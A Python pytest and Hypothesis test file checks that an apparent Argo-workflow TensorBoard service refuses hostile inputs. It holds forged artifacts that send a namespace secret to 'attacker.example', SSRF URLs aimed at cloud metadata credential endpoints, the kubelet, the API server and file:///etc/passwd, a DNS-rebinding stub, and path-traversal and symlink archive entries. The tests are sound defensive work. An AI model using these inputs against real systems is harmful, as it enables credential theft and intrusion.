"""What a user who may write a Workflow (its status included: Argo's CRD has no status subresource)
or who may call the function can throw at the tensorboard function: each finding of issue 11 as a
named regression test, and Hypothesis properties at the boundaries (the routes, the archive reader).
"""

from __future__ import annotations

import http.server
import io
import json
import socket
import tarfile
import threading
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import flask.testing
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from argoml.dev.emulator import Emulator
from argoml.tensorboard import fetch as fetcher
from argoml.tensorboard.fetch import CONFIG_ENV, Destinations, FetchError, Plan, StoredRun
from tests.workflow_status import MINIO_REPOSITORY, key_only, pod, seed, workflow

KSVC = ("serving.knative.dev", "v1", "services")
WORKFLOWS = ("argoproj.io", "v1alpha1", "workflows")
AUTH = {"Authorization": "Bearer alice-token"}
Serve = Callable[[str], flask.testing.FlaskClient]


@pytest.fixture
def client(cluster: Emulator, serve: Serve, monkeypatch: pytest.MonkeyPatch) -> flask.testing.FlaskClient:
    monkeypatch.delenv("TENSORBOARD_AUTH", raising=False)
    monkeypatch.setenv("TENSORBOARD_SESSION_KEYS", "k" * 40)
    cluster.access.tokens["alice-token"] = {"username": "alice"}
    for verb in ("get", "create"):
        cluster.access.grants.add(("alice", verb, "argoproj.io", "workflows", "ml"))
    return serve("tensorboard")


def init_env(cluster: Emulator, name: str) -> list[dict[str, Any]]:
    ksvc = cluster.store.get(cluster.store.type_of(*KSVC), "ml", name)
    env: list[dict[str, Any]] = ksvc["spec"]["template"]["spec"]["initContainers"][0]["env"]
    return env


# --- forged artifacts ---------------------------------------------------------------------------------


def test_a_forged_artifact_gets_no_secret_of_the_namespace_into_an_instance(
        client: flask.testing.FlaskClient, cluster: Emulator) -> None:
    # Issue 11: `auth.basicAuth.*Secret: {name: prod-db-root}` in a status put secretKeyRefs to it in the pod.
    forged = {"name": "tensorboard", "archive": {"none": {}}, "http": {
        "url": "https://attacker.example/x", "auth": {"basicAuth": {
            "usernameSecret": {"name": "prod-db-root", "key": "user"},
            "passwordSecret": {"name": "prod-db-root", "key": "password"}}}}}
    s3 = {"name": "tensorboard", "s3": {"bucket": "b", "endpoint": "attacker.example", "key": "k.tgz",
                                        "accessKeySecret": {"name": "prod-db-root", "key": "password"},
                                        "secretKeySecret": {"name": "prod-db-root", "key": "password"}}}
    seed(cluster, workflow("wf", "ml", pod("a", "web", forged), pod("b", "bucket", s3),
                           pod("c", "train", key_only("t.tgz")), repository=MINIO_REPOSITORY))
    response = client.put("/tensorboards/ml/wf", headers=AUTH)
    assert response.status_code == 200, response.json
    assert response.json["runs"] == ["train"]
    assert [reason for reason in response.json["skipped"] if "names its own credentials" in reason] == [
        response.json["skipped"][0], response.json["skipped"][1]]
    refs = {e["valueFrom"]["secretKeyRef"]["name"] for e in init_env(cluster, "tb-wf") if "valueFrom" in e}
    assert refs == {"minio-creds"}


def test_a_workflow_with_only_forged_artifacts_is_a_422_saying_why(client: flask.testing.FlaskClient,
                                                                   cluster: Emulator) -> None:
    forged = {"name": "tensorboard", "s3": {"bucket": "b", "endpoint": "x.example", "key": "k",
                                            "accessKeySecret": {"name": "prod-db-root", "key": "p"}}}
    seed(cluster, workflow("wf", "ml", pod("a", "train", forged)))
    response = client.put("/tensorboards/ml/wf", headers=AUTH)
    assert response.status_code == 422 and "names its own credentials (accessKeySecret)" in \
        response.json["error"]["message"]
    assert cluster.store.find(cluster.store.type_of(*KSVC), "ml") == []


@pytest.mark.parametrize(("url", "reason"), [
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "link-local"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "link-local"),
    ("http://metadata.google.internal/computeMetadata/v1/", "metadata service"),
    ("http://127.0.0.1:10250/pods", "loopback"),
    ("http://[::1]/", "loopback"),
    ("http://[::ffff:169.254.169.254]/", "link-local"),
    ("https://kubernetes.default.svc/api/v1/secrets", "API server"),
    ("http://0.0.0.0:8080/", "loopback"),
    ("file:///etc/passwd", "not an http(s) URL"),
])
def test_http_artifacts_to_metadata_the_node_or_the_api_server_are_refused(
        client: flask.testing.FlaskClient, cluster: Emulator, url: str, reason: str) -> None:
    seed(cluster, workflow("wf", "ml", pod("a", "train", {"name": "tensorboard", "http": {"url": url}})))
    response = client.put("/tensorboards/ml/wf", headers=AUTH)
    assert response.status_code == 422 and reason in response.json["error"]["message"], response.json


def test_the_api_servers_service_address_is_refused_in_the_plan_and_by_the_fetcher(
        client: flask.testing.FlaskClient, cluster: Emulator, monkeypatch: pytest.MonkeyPatch,
        serve: Serve, tmp_path: Path) -> None:
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "10.96.0.1")
    # (The emulator stands in for the API server; only the fetcher's deny list reads this variable.)
    from argoml.tensorboard import instances
    assert instances.api_server_addresses() == ("10.96.0.1",)
    plan = Plan(str(tmp_path), (StoredRun("train", "http", "none", {"url": "https://10.96.0.1/api"}),))
    with pytest.raises(FetchError, match="the Kubernetes API server"):
        fetcher.fetch(plan, {"KUBERNETES_SERVICE_HOST": "10.96.0.1"})


class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server: Any = self.server
        self.send_response(302)
        self.send_header("Location", server.location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def redirector() -> Iterator[Any]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    server.location = ""  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("target", ["http://127.0.0.2:{port}/x", "http://169.254.169.254/latest/meta-data/",
                                    "http://localhost:{port}/x"])
def test_a_redirect_to_a_refused_address_is_refused_as_it_is_dialled(redirector: Any, tmp_path: Path,
                                                                     target: str) -> None:
    # The first URL is allowed (the operator allows 127.0.0.1 here); where it redirects to is checked anew.
    redirector.location = target.format(port=redirector.server_port)
    url = f"http://127.0.0.1:{redirector.server_port}/start"
    plan = Plan(str(tmp_path), (StoredRun("train", "http", "none", {"url": url}),), allow=("127.0.0.1/32",))
    with pytest.raises(FetchError, match="refusing to download from"):
        fetcher.fetch(plan, {})


def test_a_name_is_checked_by_the_address_it_resolves_to_when_it_is_dialled(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # DNS rebinding: the name resolved to a public address when it was first looked at, and to the cloud's
    # metadata service when the connection is made; the address dialled is what is checked.
    answers = iter(["203.0.113.7", "169.254.169.254"])
    real = socket.getaddrinfo

    def rebinding(host: str, *args: Any, **kwargs: Any) -> Any:
        if host != "rebind.example":
            return real(host, *args, **kwargs)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), 80))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    destinations = Destinations.of((), {})
    destinations.check_url("http://rebind.example/logs.tgz")  # looks fine at first
    with pytest.raises(FetchError, match=r"resolves to 169\.254\.169\.254, a link-local address"):
        destinations.connect(("rebind.example", 80), timeout=1)
    with pytest.raises(FetchError, match="names this cluster's API server, the node"):
        destinations.connect(("localhost", 9))


# --- malformed statuses and ConfigMaps ----------------------------------------------------------------


def test_one_workflow_with_outputs_true_never_fails_the_namespace_listing(client: flask.testing.FlaskClient,
                                                                        cluster: Emulator) -> None:
    # Issue 11: `nodes.a.outputs: true` made GET /tensorboards/<ns> answer 500 for the whole namespace.
    seed(cluster, workflow("good", "ml", pod("a", "train", key_only("g.tgz")), repository=MINIO_REPOSITORY))
    bad = workflow("bad", "ml")
    bad["status"]["nodes"] = {"a": {"outputs": True}, "b": {"outputs": {"artifacts": [None, "x"]}}}
    seed(cluster, bad)
    weird = workflow("weird", "ml")
    weird["status"] = {"phase": {"an": "object"}, "nodes": ["not", "a", "map"]}
    seed(cluster, weird)
    response = client.get("/tensorboards/ml", headers=AUTH)
    assert response.status_code == 200, response.json
    assert [w["name"] for w in response.json["workflows"]] == ["good"]
    assert {entry["name"]: entry["reasons"] for entry in response.json["skipped"]} == {
        "bad": ["node 'a': outputs is not an object"], "weird": ["status.nodes is a list, not an object"]}
    put = client.put("/tensorboards/ml/bad", headers=AUTH)
    assert put.status_code == 422 and "outputs is not an object" in put.json["error"]["message"]


@pytest.mark.parametrize("status", [
    {"nodes": {"a": {"outputs": {"artifacts": [{"name": "tensorboard", "s3": "k.tgz"}]}}}},
    {"nodes": {"a": {"outputs": {"artifacts": [{"name": "tensorboard", "s3": {"key": 5}}]}}}},
    {"nodes": {"a": {"displayName": ["x"], "outputs": {"artifacts": [{"name": "tensorboard", "http": {"url": 7}}]}}}},
    {"artifactRepositoryRef": {"configMap": ["x"]}, "nodes": {"a": {"outputs": {"artifacts": [key_only("k")]}}}},
    {"artifactRepositoryRef": "default", "nodes": {"a": {"outputs": {"artifacts": [key_only("k")]}}}},
    {"nodes": {"a": {"outputs": {"artifacts": [{"name": "tensorboard", "archive": "zip", "s3": {"key": "k"}}]}}}},
])
def test_malformed_status_shapes_make_a_put_a_4xx_never_a_500(client: flask.testing.FlaskClient,
                                                               cluster: Emulator, status: dict[str, Any]) -> None:
    wf = workflow("wf", "ml")
    wf["status"] = status
    seed(cluster, wf)
    response = client.put("/tensorboards/ml/wf", headers=AUTH)
    assert 400 <= response.status_code < 500 or response.status_code == 200, response.json


def test_a_status_naming_any_configmap_never_reads_or_echoes_it(client: flask.testing.FlaskClient,
                                                                 cluster: Emulator) -> None:
    # Issue 11: a ref naming a ConfigMap in argo echoed its lines through a YAML error in the 422.
    configmaps = cluster.store.type_of("", "v1", "configmaps")
    cluster.store.create(configmaps, "argo", {"metadata": {"name": "argo-server-sso"},
                                              "data": {"sso": "clientSecret: s3kr1t-VALUE\n  x: [oops"}})
    cluster.store.create(configmaps, "ml", {"metadata": {"name": "artifact-repositories"},
                                            "data": {"v1": "clientSecret: s3kr1t-VALUE\n  x: [oops"}})
    for ref in ({"configMap": "argo-server-sso", "key": "sso", "namespace": "argo"},
                {"configMap": "argo-server-sso", "key": "sso"}, {"key": "v1"}):
        for existing in cluster.store.find(cluster.store.type_of(*WORKFLOWS), "ml"):
            cluster.store.delete(cluster.store.type_of(*WORKFLOWS), "ml", existing["metadata"]["name"])
        seed(cluster, workflow("wf", "ml", pod("a", "train", key_only("k.tgz")),
                               status_extra={"artifactRepositoryRef": ref}))
        response = client.put("/tensorboards/ml/wf", headers=AUTH)
        assert response.status_code == 422, response.json
        assert "s3kr1t" not in json.dumps(response.json) and "clientSecret" not in json.dumps(response.json)
    assert "is not valid YAML (line 2" in response.json["error"]["message"]
    assert not [c for c in cluster.calls if c.resource == "configmaps" and c.namespace == "argo"]


# --- properties ---------------------------------------------------------------------------------------

SEGMENT = st.one_of(st.sampled_from(["tensorboards", "ml", "train-mnist", "ui", "..", ".", "", "%2F", "session",
                                     "data", "a" * 300]),
                    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\n\x00?#"),
                            max_size=20))
HEADER_VALUE = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7e), max_size=60)
HEADERS = st.dictionaries(st.sampled_from(["Authorization", "Cookie", "Origin", "Sec-Fetch-Site", "Content-Type",
                                           "X-Forwarded-Proto", "Content-Length", "Accept"]), HEADER_VALUE,
                          max_size=5)


@pytest.mark.fuzz
@given(method=st.sampled_from(["GET", "HEAD", "PUT", "DELETE", "POST", "PATCH", "OPTIONS"]),
       segments=st.lists(SEGMENT, max_size=6), headers=HEADERS, body=st.binary(max_size=300),
       cookie=st.one_of(st.none(), HEADER_VALUE))
def test_any_request_is_answered_with_a_4xx_or_a_proper_answer_never_a_5xx(
        client: flask.testing.FlaskClient, cluster: Emulator, method: str, segments: list[str],
        headers: dict[str, str], body: bytes, cookie: str | None) -> None:
    if not cluster.store.find(cluster.store.type_of(*WORKFLOWS), "ml"):
        seed(cluster, workflow("train-mnist", "ml", pod("a", "train", key_only("t.tgz")), repository=MINIO_REPOSITORY))
    headers.pop("Content-Length", None)  # the test client sets it from the body
    if cookie is not None:
        client.set_cookie("argoml-tensorboard-session", cookie, path="/tensorboards/")
    path = "/" + "/".join(segments).lstrip("/")  # a leading "//" would make the test client read a host
    response = client.open(path, method=method, headers=headers, data=body)
    assert response.status_code < 500 or response.status_code == 502, (response.status_code, response.data[:300])
    if response.status_code >= 400 and response.mimetype == "application/json" and method != "HEAD":
        assert response.json["error"]["message"]


def tar_of(entries: list[tuple[str, str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind, content in entries:
            info = tarfile.TarInfo(name)
            if kind == "file":
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
            else:
                info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE,
                             "fifo": tarfile.FIFOTYPE}[kind]
                info.linkname = content.decode("latin-1")
                archive.addfile(info)
    return buffer.getvalue()


def zip_of(entries: list[tuple[str, str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # duplicate names are part of what is tried
        for name, _, content in entries:
            archive.writestr(name or "x", content)
    return buffer.getvalue()


NAME = st.one_of(st.sampled_from(["../up", "/abs", "a/../../b", "ok/file", "./x", "dir/", "a" * 200, ""]),
                 st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30))
ENTRY = st.tuples(NAME, st.sampled_from(["file", "file", "dir", "symlink", "hardlink", "fifo"]),
                  st.one_of(st.binary(max_size=2000), st.sampled_from([b"../../etc/passwd", b"/etc/passwd"])))


def check_unpacked(data: bytes, kind: str, tmp_path: Path, budget: int) -> None:
    root = tmp_path / "logs"
    root.mkdir(exist_ok=True)
    target = root / "run"
    archive = io.BytesIO(data)
    try:
        fetcher._unpack(archive, kind, target, fetcher._Budget(budget))
    except FetchError:
        assert not target.exists() or target.is_dir()
        return
    finally:
        leftovers = [p for p in root.iterdir() if p.name != "run"]
        assert leftovers == []  # no staging directory left behind
    written = 0
    for path in target.rglob("*"):
        assert path.resolve().is_relative_to(root.resolve()), path
        if path.is_symlink():
            assert (path.parent / path.readlink()).resolve().is_relative_to(target.resolve())
        elif path.is_file():
            written += path.stat().st_size
    assert written <= budget


@pytest.mark.fuzz
@given(data=st.binary(max_size=4000), kind=st.sampled_from(["tgz", "zip"]))
def test_any_bytes_unpack_within_the_budget_or_are_refused(tmp_path_factory: pytest.TempPathFactory, data: bytes,
                                                           kind: str) -> None:
    check_unpacked(data, kind, tmp_path_factory.mktemp("bytes"), 10_000)


@pytest.mark.fuzz
@given(entries=st.lists(ENTRY, max_size=8), kind=st.sampled_from(["tgz", "zip"]))
def test_any_archive_stays_in_its_directory_and_budget_or_is_refused(tmp_path_factory: pytest.TempPathFactory,
                                                                     entries: list[tuple[str, str, bytes]],
                                                                     kind: str) -> None:
    try:
        data = tar_of(entries) if kind == "tgz" else zip_of(entries)
    except (ValueError, UnicodeError, OverflowError):
        return  # not an archive a writer can make at all
    check_unpacked(data, kind, tmp_path_factory.mktemp("archive"), 6000)


def test_an_archive_of_too_many_entries_is_refused_before_its_index_is_all_read(tmp_path: Path,
                                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fetcher, "MAX_MEMBERS", 50)
    data = tar_of([(f"d/{i}", "file", b"") for i in range(51)])
    with pytest.raises(FetchError, match="more than 50 entries"):
        check_unpacked_or_raise(data, tmp_path)


def check_unpacked_or_raise(data: bytes, tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    fetcher._unpack(io.BytesIO(data), "tgz", tmp_path / "logs" / "run", fetcher._Budget(0))


def test_a_fetch_plan_from_anywhere_is_a_fetch_error_not_a_crash() -> None:
    for text in ("", "{", "[]", '{"runs": 5}', '{"logdir": "/x", "runs": [{"store": 9}], "stores": []}',
                 json.dumps({"logdir": "/x", "stores": [], "runs": [], "deny": 5})):
        with pytest.raises(FetchError, match=f"{CONFIG_ENV} is not a fetch plan"):
            Plan.from_json(text)
    assert yaml  # the module's YAML-based fixtures above
